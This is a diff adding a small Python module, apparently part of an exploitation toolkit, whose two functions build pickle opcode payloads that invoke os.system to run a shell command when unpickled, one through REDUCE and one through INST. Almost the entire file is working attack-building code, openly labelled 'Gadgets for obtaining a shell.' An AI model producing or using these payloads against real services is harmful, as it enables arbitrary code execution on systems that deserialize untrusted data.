@@ -0,0 +1,12 @@
+"""
+Gadgets for obtaining a shell.
+"""
+
+
+#basic get shell, cmd should be the bytes that push the command string (or a str, which gets pickled)
+def get_shell__os_system(cmd, *, os_system):
+    return os_system + b'(' + cmd + b'tR'
+
+#same as above but without REDUCE, INST calls the global directly
+def get_shell__inst(cmd):
+    return b'(' + cmd + b'ios\nsystem\n'